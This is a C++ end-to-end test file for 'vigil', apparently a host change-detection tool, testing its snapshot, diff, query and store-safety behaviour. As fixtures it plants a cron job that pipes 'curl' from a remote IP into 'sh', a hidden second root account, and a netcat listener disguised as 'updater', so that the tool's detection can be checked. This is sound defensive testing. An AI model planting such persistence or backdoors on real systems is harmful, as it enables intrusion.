// End-to-end: vigil snapshot, diff and query as a user runs them; a writer killed mid-write;
// a store that is not one. Tests named StoreLive* look at the whole live host and run alone.
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <gtest/gtest.h>

#include "e2e/vigil_run.hpp"
#include "store/sqlite.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

std::vector<std::string> rules_of(const std::vector<nlohmann::json>& findings) {
  std::vector<std::string> out;
  for (const auto& f : findings) out.push_back(f["rule"]["id"]);
  std::sort(out.begin(), out.end());
  return out;
}

std::string dump_all(const std::vector<nlohmann::json>& findings) {
  std::string s;
  for (const auto& f : findings) s += f.dump() + "\n";
  return s;
}

void fixture_root(const TempDir& d) {
  d.write("etc/hostname", "fixture-host\n");
  d.write("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n");
  d.write("etc/shadow", "root:$y$j9T$s$h:19000::::::\nwww-data:*:19000::::::\n");
  d.write("etc/group", "root:x:0:\nwww-data:x:33:\n");
  d.write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  d.write("var/lib/dpkg/status", "Package: cron\nStatus: install ok installed\nVersion: 3.0pl1-162\nArchitecture: amd64\n\n");
  d.write("var/lib/dpkg/info/cron.list", "/etc/crontab\n");
}

}  // namespace

TEST(StoreLive, DiffReportsExactlyTheNewListenerAndItsProgram_ThenNothingOnceUndone) {
  TempDir dir("vigil-store");
  std::string db = dir / "v.db";
  auto snap = run_vigil({"snapshot", "--db", db});
  ASSERT_EQ(snap.exit_code, 0) << snap.err << snap.out;
  EXPECT_NE(snap.out.find("saved snapshot #1 'baseline'"), std::string::npos) << snap.out;

  // A listener on loopback from a copied binary: what an intruder's tool looks like.
  std::string copy = dir / "updater";
  fs::copy_file("/bin/nc.traditional", copy);
  ::chmod(copy.c_str(), 0755);
  std::vector<nlohmann::json> findings;
  {
    Planted nc(copy, {copy, "-l", "-p", "3352", "-s", "127.0.0.1"});
    ASSERT_TRUE(wait_for([&] {
      std::ifstream tcp("/proc/net/tcp");
      std::string all((std::istreambuf_iterator<char>(tcp)), {});
      return all.find(":0D18 00000000:0000 0A") != std::string::npos;  // 3352 LISTEN
    }));
    auto r = run_vigil({"diff", "--db", db, "--format", "jsonl", "--no-suppress"});
    EXPECT_EQ(r.exit_code, 1) << r.err;  // a new listener is high
    findings = parse_jsonl(r.out);
  }
  EXPECT_EQ(rules_of(findings), (std::vector<std::string>{"change.listener-added", "change.process-added"}))
      << dump_all(findings);
  for (const auto& f : findings) {
    if (f["rule"]["id"] == "change.listener-added") {
      // The ECS names triage uses for a listener and its program.
      EXPECT_EQ(f["destination"]["port"], 3352);
      EXPECT_EQ(f["process"]["executable"], copy);
      EXPECT_EQ(f["vigil"]["severity"], "high");
    } else {
      EXPECT_EQ(f["process"]["executable"], copy);
      EXPECT_EQ(f["vigil"]["file"]["copy_of"], "/bin/nc.traditional");
    }
  }
  // The listener is gone: the host matches its baseline again.
  ASSERT_TRUE(wait_for([&] {
    auto r = run_vigil({"diff", "--db", db, "--format", "jsonl", "--no-suppress"});
    return r.exit_code == 0 && r.out.empty();
  })) << dump_all(parse_jsonl(run_vigil({"diff", "--db", db, "--format", "jsonl", "--no-suppress"}).out));
}

TEST(StoreLive, QueryJoinsListeningPortsToProcesses) {
  TempDir dir("vigil-store");
  std::string copy = dir / "listener";
  fs::copy_file("/bin/nc.traditional", copy);
  ::chmod(copy.c_str(), 0755);
  Planted nc(copy, {copy, "-l", "-p", "3353", "-s", "127.0.0.1"});
  ASSERT_TRUE(wait_for([&] {
    std::ifstream tcp("/proc/net/tcp");
    std::string all((std::istreambuf_iterator<char>(tcp)), {});
    return all.find(":0D19 00000000:0000 0A") != std::string::npos;
  }));
  auto r = run_vigil({"query", "--format", "json",
                      "SELECT s.protocol, s.local_port, p.executable, p.package FROM sockets s "
                      "JOIN processes p ON p.pid = s.pid WHERE s.state = 'LISTEN' ORDER BY s.local_port"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto rows = nlohmann::json::parse(r.out);
  bool found = false;
  for (const auto& row : rows)
    if (row["local_port"] == 3353) {
      found = true;
      EXPECT_EQ(row["executable"], copy);
      EXPECT_EQ(row["package"], "");
    }
  EXPECT_TRUE(found) << r.out;

  auto csv = run_vigil({"query", "--format", "csv", "SELECT name, uid FROM users WHERE uid = 0"});
  ASSERT_EQ(csv.exit_code, 0) << csv.err;
  EXPECT_EQ(csv.out, "name,uid\r\nroot,0\r\n");
  auto table = run_vigil({"query", "SELECT name, uid FROM users WHERE uid = 0"});
  EXPECT_NE(table.out.find("(1 row)"), std::string::npos) << table.out;
}

TEST(Store, DiffOfAFixtureRootReportsTheCronEntryAndTheUser_ThenNothingOnceUndone) {
  TempDir root("vigil-root"), dir("vigil-store");
  fixture_root(root);
  std::string db = dir / "v.db";
  auto snap = run_vigil({"snapshot", "--root", root.path(), "--db", db, "--name", "known-good"});
  ASSERT_EQ(snap.exit_code, 0) << snap.err;

  auto passwd = slurp(root / "etc/passwd"), shadow = slurp(root / "etc/shadow");
  root.write("etc/cron.d/update", "*/5 * * * * root curl -s http://198.51.100.7/u | sh\n");
  root.write("etc/passwd", passwd + "backup:x:0:0::/root:/bin/bash\n");
  root.write("etc/shadow", shadow + "backup:$y$j9T$a$b:19000::::::\n");
  auto r = run_vigil({"diff", "--root", root.path(), "--db", db, "--format", "jsonl", "--no-suppress"});
  EXPECT_EQ(r.exit_code, 1) << r.err;
  auto findings = parse_jsonl(r.out);
  EXPECT_EQ(rules_of(findings), (std::vector<std::string>{"change.persistence-added", "change.user-added"}))
      << dump_all(findings);
  for (const auto& f : findings) {
    EXPECT_EQ(f["vigil"]["severity"], "high") << f.dump();  // curl | sh; a second uid 0
    EXPECT_EQ(f["host"]["name"], "fixture-host");
  }
  auto text = run_vigil({"diff", "--root", root.path(), "--db", db, "--color", "never"});
  EXPECT_NE(text.out.find("changes from snapshot #1 'known-good'"), std::string::npos) << text.out;
  EXPECT_NE(text.out.find("New start-up item since the baseline"), std::string::npos) << text.out;

  // Two stored snapshots compare without collecting.
  ASSERT_EQ(run_vigil({"snapshot", "--root", root.path(), "--db", db, "--name", "after"}).exit_code, 0);
  auto stored = run_vigil({"diff", "known-good", "after", "--db", db, "--format", "jsonl"});
  EXPECT_EQ(rules_of(parse_jsonl(stored.out)),
            (std::vector<std::string>{"change.persistence-added", "change.user-added"}));

  fs::remove(root / "etc/cron.d/update");
  root.write("etc/passwd", passwd);
  root.write("etc/shadow", shadow);
  r = run_vigil({"diff", "known-good", "--root", root.path(), "--db", db, "--format", "jsonl", "--no-suppress"});
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "");
}

TEST(Store, SnapshotListKeepAndDelete) {
  TempDir root("vigil-root"), dir("vigil-store");
  fixture_root(root);
  std::string db = dir / "v.db";
  for (int i = 0; i < 3; ++i)
    ASSERT_EQ(run_vigil({"snapshot", "--root", root.path(), "--db", db, "--name", "daily", "--keep", "2"}).exit_code, 0);
  auto list = run_vigil({"snapshot", "--list", "--db", db});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  EXPECT_NE(list.out.find("(2 snapshots in"), std::string::npos) << list.out;
  EXPECT_EQ(list.out.find("    1  daily"), std::string::npos) << list.out;  // the oldest went
  EXPECT_EQ(run_vigil({"snapshot", "--delete", "daily", "--db", db}).exit_code, 0);
  EXPECT_NE(run_vigil({"snapshot", "--list", "--db", db}).out.find("(0 snapshots in"), std::string::npos);
  auto none = run_vigil({"diff", "--root", root.path(), "--db", db});
  EXPECT_EQ(none.exit_code, 2);
  EXPECT_NE(none.err.find("take one first"), std::string::npos) << none.err;
  auto q = run_vigil({"query", "--root", root.path(), "SELECT name, version FROM packages"});
  EXPECT_NE(q.out.find("3.0pl1-162"), std::string::npos) << q.out << q.err;
}

TEST(Store, CorruptOrForeignDbIsRefusedWithExit2AndLeftAlone) {
  TempDir dir("vigil-store");
  std::string garbage = dir.write("garbage.db", std::string("SQLite format 3") + std::string(5000, '\x7f'));
  std::string foreign = dir / "other.db";
  {
    auto d = vigil::store::Database::open(foreign, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE);
    ASSERT_TRUE(d);
    ASSERT_TRUE(d->exec("CREATE TABLE accounts(id INTEGER, balance INTEGER); INSERT INTO accounts VALUES(1, 100)"));
  }
  std::string text = dir.write("notes.txt", "not a database at all\n");
  for (const auto& path : {garbage, foreign, text}) {
    auto before = slurp(path);
    for (std::vector<std::string> args : {std::vector<std::string>{"snapshot", "--db", path},
                                          std::vector<std::string>{"diff", "--db", path},
                                          std::vector<std::string>{"query", "--snapshot", "1", "--db", path, "SELECT 1"},
                                          std::vector<std::string>{"snapshot", "--list", "--db", path}}) {
      auto r = run_vigil(args);
      EXPECT_EQ(r.exit_code, 2) << path << " " << args[0];
      EXPECT_NE(r.err.find("not a vigil store"), std::string::npos) << r.err;
    }
    EXPECT_EQ(slurp(path), before) << path;
    EXPECT_FALSE(fs::exists(path + "-wal")) << path;
  }
}

// Every command that opens a store refuses one inside --root (exit 2, nothing created there):
// named directly, through a symlink to an existing file, through a dangling symlink (the write
// would create its target), and through a bind-like second path to the image.
TEST(Store, EveryStoreWriterRefusesADbInsideTheInspectedRoot) {
  TempDir root("vigil-root"), outside("vigil-outside");
  fixture_root(root);
  root.write("var/lib/existing.db", "");
  fs::create_directories(outside / "nested");
  fs::create_symlink(root / "var/lib/dangling.db", outside / "dangling.db");
  fs::create_symlink(root / "var/lib/existing.db", outside / "existing.db");
  fs::create_symlink(root.path(), outside / "image");  // another way into the image
  std::string key = outside / "fim.key";
  const std::vector<std::string> dbs = {root / "var/lib/vigil.db", outside / "dangling.db", outside / "existing.db",
                                        outside / "image/var/lib/via-link.db", root / "var/../var/lib/dots.db"};
  const std::vector<std::vector<std::string>> commands = {
      {"snapshot"},
      {"diff"},
      {"query", "--snapshot", "x", "SELECT 1"},
      {"fim", "init", "--key", key},
      {"fim", "check", "--key", key},
      {"fim", "update", "--key", key},
      {"fim", "list"},
      {"audit", "--save", "x", "--no-commands"},
      {"audit", "--compare", "x", "--no-commands"},
  };
  for (const auto& db : dbs)
    for (auto args : commands) {
      args.insert(args.end(), {"--root", root.path(), "--db", db});
      auto r = run_vigil(args);
      std::string what = args[0] + (args.size() > 1 ? " " + args[1] : "") + " --db " + db;
      EXPECT_EQ(r.exit_code, 2) << what << "\n" << r.out << r.err;
      EXPECT_NE(r.err.find("never writes to an inspected root"), std::string::npos) << what << "\n" << r.err;
    }
  for (const auto* name : {"var/lib/vigil.db", "var/lib/dangling.db", "var/lib/via-link.db", "var/lib/dots.db"})
    EXPECT_FALSE(fs::exists(root / name)) << name;
  EXPECT_EQ(fs::file_size(root / "var/lib/existing.db"), 0u);
  EXPECT_FALSE(fs::exists(key));  // refused before the key was made
  // The other writers: a signing key, report files (--out), a workbook.
  auto k = run_vigil({"fim", "init", "--root", root.path(), "--db", outside / "k.db", "--key", root / "etc/fim.key"});
  EXPECT_EQ(k.exit_code, 2) << k.out << k.err;
  EXPECT_NE(k.err.find("--key " + root / "etc/fim.key" + " lies inside --root"), std::string::npos) << k.err;
  EXPECT_FALSE(fs::exists(root / "etc/fim.key"));
  for (auto format : {"html", "json", "xlsx"}) {
    auto a = run_vigil({"audit", "--root", root.path(), "--no-commands", "--format", format, "--out", outside / "image/r.out"});
    EXPECT_EQ(a.exit_code, 2) << format << a.out << a.err;
    EXPECT_NE(a.err.find("lies inside --root"), std::string::npos) << a.err;
  }
  EXPECT_FALSE(fs::exists(root / "r.out"));
  // And the export: the source store is elsewhere, the new file is not.
  std::string db = outside / "v.db";
  ASSERT_EQ(run_vigil({"fim", "init", "--root", root.path(), "--db", db, "--key", key}).exit_code, 0);
  auto r = run_vigil({"fim", "export", "--root", root.path(), "--db", db, "--key", key, "--out", root / "exp.db"});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("--out"), std::string::npos) << r.err;
  EXPECT_FALSE(fs::exists(root / "exp.db"));
}

// An image's snapshot against the live host is two systems, not one that changed: refused
// unless asked for, and then said in the report.
TEST(Store, DiffAcrossTwoSystemsIsRefusedUnlessAskedFor) {
  TempDir root("vigil-root"), dir("vigil-across");
  fixture_root(root);
  std::string db = dir / "v.db";
  ASSERT_EQ(run_vigil({"snapshot", "--root", root.path(), "--db", db, "--name", "image", "--tables", "users"}).exit_code, 0);
  auto r = run_vigil({"diff", "image", "--db", db});
  EXPECT_EQ(r.exit_code, 2) << r.out << r.err;
  EXPECT_NE(r.err.find("two different systems"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("--across-systems"), std::string::npos) << r.err;
  auto a = run_vigil({"diff", "image", "--db", db, "--across-systems", "--color", "never"});
  EXPECT_LE(a.exit_code, 1) << a.err;
  EXPECT_NE(a.out.find("ACROSS SYSTEMS"), std::string::npos) << a.out;
}

// Commands that only read a store never make one: a typo in --db is an error, not an empty
// store (and no /var/lib/vigil appears for it).
TEST(Store, ReadOnlyCommandsSayThereIsNoStoreAndCreateNothing) {
  TempDir root("vigil-root"), dir("vigil-nostore");
  fixture_root(root);
  std::string db = dir / "missing/v.db", key = dir / "k";
  const std::vector<std::vector<std::string>> readers = {
      {"snapshot", "--list"},          {"snapshot", "--delete", "x"},
      {"diff"},                        {"query", "--snapshot", "x", "SELECT 1"},
      {"fim", "list"},                 {"fim", "check", "--key", key},
      {"fim", "update", "--key", key}, {"fim", "export", "--key", key, "--out", dir / "e.db"},
      {"audit", "--compare", "x", "--no-commands"},
  };
  for (auto args : readers) {
    args.insert(args.end(), {"--root", root.path(), "--db", db});
    auto r = run_vigil(args);
    EXPECT_EQ(r.exit_code, 2) << args[0] << " " << args[1] << r.out << r.err;
    EXPECT_NE(r.err.find("no store at " + db), std::string::npos) << args[0] << " " << args[1] << ": " << r.err;
  }
  auto c = run_vigil({"audit", "--db", db, "compare", "a", "b"});
  EXPECT_EQ(c.exit_code, 2) << c.out << c.err;
  EXPECT_NE(c.err.find("no store at " + db), std::string::npos) << c.err;
  EXPECT_FALSE(fs::exists(dir / "missing"));
  EXPECT_FALSE(fs::exists(key));
  EXPECT_FALSE(fs::exists(dir / "e.db"));
}

// A writer killed while its transaction is half written leaves the store readable, with the
// complete snapshot before it intact and no trace of the half one.
TEST(Store, SnapshotKilledMidWriteLeavesTheLastCompleteSnapshot) {
  TempDir root("vigil-root"), dir("vigil-store");
  fixture_root(root);
  // Enough accounts that writing them takes a while and spills pages into the WAL.
  std::string passwd = "root:x:0:0:root:/root:/bin/bash\n";
  for (int i = 0; i < 300000; ++i)
    passwd += "user" + std::to_string(i) + ":x:" + std::to_string(10000 + i) + ":100:A user with a long comment field:/home/u" + std::to_string(i) + ":/bin/sh\n";
  root.write("etc/passwd", passwd);
  std::string db = dir / "v.db";
  ASSERT_EQ(run_vigil({"snapshot", "--root", root.path(), "--db", db, "--tables", "users", "--name", "complete"}).exit_code, 0);

  bool killed_mid_write = false;
  for (int attempt = 0; attempt < 5 && !killed_mid_write; ++attempt) {
    std::vector<std::string> args = {VIGIL_BINARY, "snapshot", "--root", root.path(), "--db", db, "--tables", "users",
                                     "--name", "killed"};
    auto argv = c_argv(args);
    pid_t pid = 0;
    posix_spawn_file_actions_t fa;
    posix_spawn_file_actions_init(&fa);
    posix_spawn_file_actions_addopen(&fa, 1, "/dev/null", O_WRONLY, 0);
    ASSERT_EQ(::posix_spawn(&pid, argv[0], &fa, nullptr, argv.data(), environ), 0);
    posix_spawn_file_actions_destroy(&fa);
    // Kill as soon as the uncommitted transaction has spilled a megabyte into the WAL.
    int status = 0;
    bool exited = false;
    while (true) {
      struct stat st {};
      if (::stat((db + "-wal").c_str(), &st) == 0 && st.st_size > (1 << 20)) break;
      if (::waitpid(pid, &status, WNOHANG) == pid) {
        exited = true;
        break;
      }
      ::usleep(500);
    }
    if (!exited) {
      ::kill(pid, SIGKILL);
      ::waitpid(pid, &status, 0);
      killed_mid_write = WIFSIGNALED(status);
    } else {
      // It finished first: drop that snapshot and try again.
      ASSERT_EQ(run_vigil({"snapshot", "--delete", "killed", "--db", db}).exit_code, 0);
    }
  }
  ASSERT_TRUE(killed_mid_write) << "the writer always finished before it could be killed";

  auto list = run_vigil({"snapshot", "--list", "--db", db});
  ASSERT_EQ(list.exit_code, 0) << list.err;
  EXPECT_NE(list.out.find("complete"), std::string::npos) << list.out;
  EXPECT_EQ(list.out.find("killed"), std::string::npos) << list.out;
  {
    auto d = vigil::store::Database::open(db, SQLITE_OPEN_READONLY);
    ASSERT_TRUE(d);
    auto check = d->prepare("PRAGMA integrity_check");
    ASSERT_TRUE(check);
    ASSERT_EQ(check->step(), SQLITE_ROW);
    EXPECT_EQ(check->text(0), "ok");
  }
  auto count = run_vigil({"query", "--snapshot", "complete", "--db", db, "--format", "csv", "SELECT count(*) AS n FROM users"});
  EXPECT_EQ(count.out, "n\r\n300001\r\n") << count.err;
  // And the store still takes new snapshots.
  EXPECT_EQ(run_vigil({"snapshot", "--root", root.path(), "--db", db, "--tables", "users", "--name", "after"}).exit_code, 0);
}
